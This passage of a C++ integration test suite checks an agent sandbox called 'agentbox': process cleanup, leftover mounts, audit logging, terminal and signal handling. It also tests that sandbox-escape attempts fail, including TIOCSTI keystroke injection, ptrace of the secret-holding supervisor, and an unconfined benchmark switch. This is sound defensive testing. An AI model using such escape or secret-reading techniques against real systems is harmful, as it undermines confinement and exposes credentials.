    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  ASSERT_EQ(pids_with_cmdline(marker).size(), 3u) << "the box never started";
  ASSERT_EQ(::kill(pid, SIGKILL), 0);
  EXPECT_EQ(wait_for(pid, 5000), 128 + SIGKILL);
  std::this_thread::sleep_for(std::chrono::seconds(1));
  // Orphans would have been reparented to us (subreaper): reap zombies, then look again.
  while (::waitpid(-1, nullptr, WNOHANG) > 0) {
  }
  for (pid_t p : pids_with_cmdline(marker)) {
    std::ifstream st(fmt::format("/proc/{}/status", p));
    std::string status((std::istreambuf_iterator<char>(st)), std::istreambuf_iterator<char>());
    ADD_FAILURE() << "a box process survived its supervisor: pid " << p << " (we are " << ::getpid()
                  << ", agentbox was " << pid << ")\n"
                  << status;
  }
  // Reap the orphaned init (our child now, as subreaper) so later tests start clean.
  for (int i = 0; i < 500 && ::waitpid(-1, nullptr, WNOHANG) >= 0; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  ::close(out);
  ::close(err);
}

TEST_P(RunTest, HundredRunsLeaveNoMountProcessOrFile) {
  ::prctl(PR_SET_CHILD_SUBREAPER, 1);
  while (::waitpid(-1, nullptr, WNOHANG) > 0) {  // leftovers of earlier tests in this process
  }
  std::vector<std::string> mounts_before = mount_table();
  auto ws_entries = [&] {
    std::string names;
    for (const auto& e : {".envrc", ".gitmodules", ".idea", ".vscode"}) {
      struct stat st {};
      names += ::lstat((w_.ws + "/" + e).c_str(), &st) == 0 ? std::string(e) + " " : "";
    }
    return names;
  };
  std::string before = ws_entries();
  for (int i = 0; i < 100; ++i) {
    Output r = run(w_, {"run", "-q", "--", "true"});
    ASSERT_EQ(r.status, 0) << "run " << i << ": " << r.err;
  }
  // Other programs on the machine may mount meanwhile; anything of ours would show up as a
  // mount on the workspace, /tmp (staging) or under the test's folder.
  std::vector<std::string> mounts_after = mount_table();
  std::vector<std::string> added;
  std::set_difference(mounts_after.begin(), mounts_after.end(), mounts_before.begin(),
                      mounts_before.end(), std::back_inserter(added));
  for (const auto& m : added) {
    EXPECT_EQ(m.find(w_.root), std::string::npos) << "leftover mount: " << m;
    EXPECT_EQ(m.find(" /tmp "), std::string::npos) << "leftover mount: " << m;
    EXPECT_EQ(m.find("/newroot"), std::string::npos) << "leftover mount: " << m;
    EXPECT_EQ(m.find("/oldroot"), std::string::npos) << "leftover mount: " << m;
  }
  if (mounts_after.size() != mounts_before.size()) {
    std::cerr << "note: the host's mount table changed size during the test ("
              << mounts_before.size() << " -> " << mounts_after.size() << ")\n";
  }
  EXPECT_EQ(ws_entries(), before);
  // No orphan was reparented to us: every box process died with its run.
  int st = 0;
  EXPECT_EQ(::waitpid(-1, &st, WNOHANG), -1);
  EXPECT_EQ(errno, ECHILD);
}

TEST_P(RunTest, AuditLogRecordsTheSession) {
  Output r = run(w_, {"run", "--", "sh", "-c", "exit 7"});
  ASSERT_EQ(r.status, 7) << r.err;
  EXPECT_NE(r.err.find("exited with status 7"), std::string::npos) << r.err;
  auto pos = r.err.find("audit log: ");
  ASSERT_NE(pos, std::string::npos) << r.err;
  std::string path = r.err.substr(pos + 11);
  path = path.substr(0, path.find('\n'));
  EXPECT_EQ(path.rfind(w_.state + "/agentbox/sessions/", 0), 0u) << path;
  std::ifstream f(path);
  std::string log((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
  EXPECT_NE(log.find("\"type\":\"session.start\""), std::string::npos) << log;
  EXPECT_NE(log.find("\"workspace\":\"" + w_.ws + "\""), std::string::npos) << log;
  EXPECT_NE(log.find("\"type\":\"session.end\",\"exit\":7"), std::string::npos) << log;
  Output quiet = run(w_, {"run", "-q", "--", "true"});
  EXPECT_EQ(quiet.err, "");
}

// The user's terminal is never inside the box: programs get a pty of the box's own devpts.
TEST_P(RunTest, TerminalIsAFreshPty) {
  int master = ::posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
  ASSERT_GE(master, 0);
  ASSERT_EQ(::grantpt(master), 0);
  ASSERT_EQ(::unlockpt(master), 0);
  std::string slave_name = ::ptsname(master);
  int slave = ::open(slave_name.c_str(), O_RDWR | O_NOCTTY | O_CLOEXEC);
  ASSERT_GE(slave, 0);
  struct termios before {};
  ASSERT_EQ(::tcgetattr(slave, &before), 0);
  struct stat outer {};
  ::fstat(slave, &outer);
  RunOptions o;
  o.stdin_fd = slave;
  o.stdout_fd = slave;
  int out = -1;
  int err = -1;
  pid_t pid = spawn(w_, {"run", "-q", "--ro", w_.bin, "--", w_.probe, "tty", ";", "readline"}, o,
                    &out, &err);
  ASSERT_GT(pid, 0);
  std::string seen;
  bool sent = false;
  auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
  int status = -1;
  while (std::chrono::steady_clock::now() < deadline) {
    char buf[1024];
    ::fcntl(master, F_SETFL, O_NONBLOCK);
    ssize_t n = ::read(master, buf, sizeof buf);
    if (n > 0) {
      seen.append(buf, static_cast<size_t>(n));
    }
    if (!sent && seen.find("tty isatty=") != std::string::npos) {
      ASSERT_EQ(::write(master, "hello\r", 6), 6);
      sent = true;
    }
    int st = 0;
    if (::waitpid(pid, &st, WNOHANG) == pid) {
      status = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
      break;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  if (status < 0) {
    ::kill(pid, SIGKILL);
    wait_for(pid, 5000);
  }
  ::close(out);
  ::close(err);
  EXPECT_EQ(status, 0) << seen;
  EXPECT_NE(seen.find("tty isatty=1 name=/dev/pts/0"), std::string::npos) << seen;
  EXPECT_NE(seen.find("readline got=hello"), std::string::npos) << seen;
  std::string outer_file = fmt::format("{}:{}", outer.st_dev, outer.st_ino);
  EXPECT_EQ(seen.find(outer_file), std::string::npos)
      << "the box holds the user's terminal " << outer_file << ": " << seen;
  struct termios after {};
  ASSERT_EQ(::tcgetattr(slave, &after), 0);
  EXPECT_EQ(after.c_lflag, before.c_lflag) << "raw mode not restored";
  EXPECT_EQ(after.c_iflag, before.c_iflag);
  EXPECT_EQ(after.c_oflag, before.c_oflag);
  ::close(slave);
  ::close(master);
}

// Without a pty (stdout is a pipe), the box still cannot type into the user's terminal: it runs
// in a new session, so TIOCSTI on the inherited tty fails and nothing reaches its input queue.
TEST_P(RunTest, NoTiocstiIntoTheUsersTerminal) {
  int master = ::posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
  ASSERT_GE(master, 0);
  ASSERT_EQ(::grantpt(master), 0);
  ASSERT_EQ(::unlockpt(master), 0);
  int slave = ::open(::ptsname(master), O_RDWR | O_NOCTTY | O_CLOEXEC);
  ASSERT_GE(slave, 0);
  RunOptions o;
  o.stdin_fd = slave;
  Output r = probe({"tty", ";", "tiocsti"}, o);
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.line_starting("tty ").find("isatty=1"), std::string::npos) << r.out;
  std::string l = r.line_starting("tiocsti ");
  EXPECT_FALSE(l.empty()) << r.out;
  EXPECT_EQ(l.find(" ok"), std::string::npos) << l;
  int pending = -1;
  ASSERT_EQ(::ioctl(slave, FIONREAD, &pending), 0);
  EXPECT_EQ(pending, 0);
  ::close(slave);
  ::close(master);
}

TEST_P(RunTest, CtrlCInTheTerminalReachesTheProgram) {
  OuterTerminal t;
  ASSERT_TRUE(t.ok());
  ASSERT_GT(t.start(w_, {"run", "-q", "--", "sh", "-c",
                         "trap 'echo got-int; exit 0' INT; echo ready; "
                         "while :; do sleep 0.1; done"}),
            0);
  ASSERT_TRUE(t.wait_for_text("ready")) << t.seen();
  t.type("\x03");
  EXPECT_TRUE(t.wait_for_text("got-int")) << t.seen();
  EXPECT_EQ(t.finish(), 0) << t.seen();
}

TEST_P(RunTest, WindowSizeFollowsTheUsersTerminal) {
  OuterTerminal t;
  ASSERT_TRUE(t.ok());
  struct winsize ws {};
  ws.ws_row = 33;
  ws.ws_col = 111;
  ASSERT_EQ(::ioctl(t.master(), TIOCSWINSZ, &ws), 0);
  pid_t pid = t.start(w_, {"run", "-q", "--ro", w_.bin, "--", w_.probe, "winsize", ";", "readline",
                           ";", "winsize"});
  ASSERT_GT(pid, 0);
  ASSERT_TRUE(t.wait_for_text("winsize 33x111")) << t.seen();
  ws.ws_row = 44;
  ws.ws_col = 122;
  ASSERT_EQ(::ioctl(t.master(), TIOCSWINSZ, &ws), 0);
  ::kill(pid, SIGWINCH);  // what the kernel sends the terminal's foreground group
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  t.type("go\r");
  EXPECT_TRUE(t.wait_for_text("winsize 44x122")) << t.seen();
  EXPECT_EQ(t.finish(), 0) << t.seen();
}

TEST_P(RunTest, SigintIsForwardedWithoutATerminal) {
  int out = -1;
  int err = -1;
  std::string marker = fmt::format("marker-int-{}", ::getpid());
  pid_t pid =
      spawn(w_, {"run", "-q", "--ro", w_.bin, "--", w_.probe, "sleep", "30", ";", "id", marker}, {},
            &out, &err);
  ASSERT_GT(pid, 0);
  for (int i = 0; i < 500 && pids_with_cmdline(marker).empty(); ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  ASSERT_FALSE(pids_with_cmdline(marker).empty());
  ::kill(pid, SIGINT);
  EXPECT_EQ(wait_for(pid, 10000), 128 + SIGINT);
  ::close(out);
  ::close(err);
}

// The benchmark switch is not in the shipped binary: AGENTBOX_UNSAFE_BENCH_UNCONFINED=1 in the
// launching environment changes nothing, seen from inside the box (seccomp mode 2 in
// /proc/self/status; Landlock's signal scoping refuses to signal init, outside the domain). The
// control: the test-only build agentbox-unconfined, which honours it, shows both off.
TEST_P(RunTest, BenchUnconfinedSwitchIsNotInTheShippedBinary) {
  const Args cmd = {"run",
                    "-q",
                    "--",
                    "/bin/sh",
                    "-c",
                    "grep '^Seccomp:' /proc/self/status; "
                    "if kill -0 1 2>/dev/null; then echo init-signal-ok; "
                    "else echo init-signal-refused; fi"};
  RunOptions o;
  o.env["AGENTBOX_UNSAFE_BENCH_UNCONFINED"] = "1";
  Output shipped = run(w_, cmd, o);
  ASSERT_EQ(shipped.status, 0) << shipped.err;
  EXPECT_TRUE(shipped.has_line("Seccomp:\t2")) << shipped.out;
  EXPECT_EQ(shipped.err.find("OFF"), std::string::npos) << shipped.err;
  World bench = w_;
  bench.agentbox = w_.agentbox_unconfined;
  Output control = run(bench, cmd, o);
  ASSERT_EQ(control.status, 0) << control.err;
  EXPECT_TRUE(control.has_line("Seccomp:\t0")) << control.out;
  EXPECT_NE(control.err.find("seccomp and Landlock are OFF"), std::string::npos) << control.err;
  EXPECT_TRUE(control.has_line("init-signal-ok")) << control.out;
  if (testkit::landlock_abi() < 6) {
    skip(Need::landlock_abi(6), "Landlock is seen from inside by its signal scoping (ABI 6)");
    return;
  }
  EXPECT_TRUE(shipped.has_line("init-signal-refused")) << shipped.out;
}

// Removes CAP_SYS_PTRACE from this process (and from its bounding set, so that what it executes
// does not get it back). The ptrace check refuses a tracer whose permitted set lacks any of the
// tracee's capabilities, whatever the tracee's dumpability: root's runs go without this one on
// both sides, so that only dumpability decides.
bool drop_sys_ptrace() {
  if (::prctl(PR_CAPBSET_DROP, CAP_SYS_PTRACE) != 0) {
    return false;
  }
  __user_cap_header_struct head{_LINUX_CAPABILITY_VERSION_3, 0};
  __user_cap_data_struct caps[2] = {};
  if (::syscall(SYS_capget, &head, caps) != 0) {
    return false;
  }
  const auto bit = ~(1u << CAP_SYS_PTRACE);
  caps[0].effective &= bit;
  caps[0].permitted &= bit;
  caps[0].inheritable &= bit;
  return ::syscall(SYS_capset, &head, caps) == 0;
}

// From a fork of the test, as `uid` (root: without CAP_SYS_PTRACE): PTRACE_SEIZE of `pid`. 0 on
// success, else the errno.
int seize_as(pid_t pid, uid_t uid, gid_t gid) {
  pid_t child = ::fork();
  if (child == 0) {
    if (uid != 0) {
      if (::setgroups(0, nullptr) != 0 || ::setresgid(gid, gid, gid) != 0 ||
          ::setresuid(uid, uid, uid) != 0) {
        ::_exit(120);
      }
    } else if (!drop_sys_ptrace()) {
      ::_exit(121);
    }
    ::_exit(::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0 ? 0 : errno);
  }
  return wait_for(child, 10000);
}

// The supervisor holds the real secrets and the session CA key: a process of your uid cannot
// ptrace it (nor read /proc/PID/mem), and it writes no core file; neither do the `cmd:`
// credential helpers it starts (they print secrets).
TEST_P(RunTest, SupervisorIsNotDumpableAndWritesNoCore) {
  if (slurp("/proc/sys/kernel/yama/ptrace_scope").substr(0, 1) > "0") {
    skip("Yama's ptrace_scope refuses attaching to non-children whatever the target");
    return;
  }
  std::string dir = w_.root + "/xdg";
  std::string helper_limits = w_.root + "/helper-limits";
  std::filesystem::create_directories(dir + "/agentbox");
  write_file(dir + "/agentbox/config.toml",
             fmt::format("[credentials.t]\nenv = \"T_TOKEN\"\nhosts = [\"example.test\"]\n"
                         "from = \"cmd:grep core /proc/self/limits > {}; echo token-1234\"\n",
                         helper_limits));
  chown_tree(dir, w_.as.uid, w_.as.gid);
  RunOptions o;
  o.env["XDG_CONFIG_HOME"] = dir;
  o.before_exec = [] { return ::prctl(PR_CAPBSET_DROP, CAP_SYS_PTRACE) == 0; };
  std::string marker = fmt::format("marker-dump-{}", ::getpid());
  int out = -1;
  int err = -1;
  pid_t pid =
      spawn(w_, {"run", "-q", "--ro", w_.bin, "--", w_.probe, "sleep", "30", ";", "id", marker}, o,
            &out, &err);
  ASSERT_GT(pid, 0);
  // The supervisor, init (its copy) and the probe, seen three polls in a row: a fork of the
  // supervisor (the `cmd:` helper before its exec) carries the marker for a moment too.
  for (int i = 0, seen = 0; i < 1000 && seen < 3; ++i) {
    seen = pids_with_cmdline(marker).size() >= 3 ? seen + 1 : 0;
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  ASSERT_GE(pids_with_cmdline(marker).size(), 3u);
  std::string limits = slurp(fmt::format("/proc/{}/limits", pid));
  EXPECT_TRUE(std::regex_search(limits, std::regex("Max core file size +0 "))) << limits;
  EXPECT_TRUE(std::regex_search(slurp(helper_limits), std::regex("Max core file size +0 ")))
      << slurp(helper_limits);
  EXPECT_EQ(seize_as(pid, w_.as.uid, w_.as.gid), EPERM) << "the supervisor can be traced";
  // The oracle: the same tracer attaches to a dumpable process of the same uid.
  pid_t control = ::fork();
  if (control == 0) {
    if (::prctl(PR_CAPBSET_DROP, CAP_SYS_PTRACE) != 0) {
      ::_exit(121);
    }
    if (w_.as.uid != 0 && (::setresgid(w_.as.gid, w_.as.gid, w_.as.gid) != 0 ||
                           ::setresuid(w_.as.uid, w_.as.uid, w_.as.uid) != 0)) {
      ::_exit(120);
    }
    ::execl("/bin/sleep", "sleep", "30", nullptr);
    ::_exit(127);
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(100));
  EXPECT_EQ(seize_as(control, w_.as.uid, w_.as.gid), 0);
  ::kill(control, SIGKILL);
  wait_for(control, 5000);
  ::kill(pid, SIGTERM);
  EXPECT_EQ(wait_for(pid, 10000), 128 + SIGTERM);
  ::close(out);
  ::close(err);
}

INSTANTIATE_TEST_SUITE_P(As, RunTest, ::testing::Values("root", "user"),
                         [](const ::testing::TestParamInfo<std::string>& i) { return i.param; });

}  // namespace
}  // namespace agentbox::it
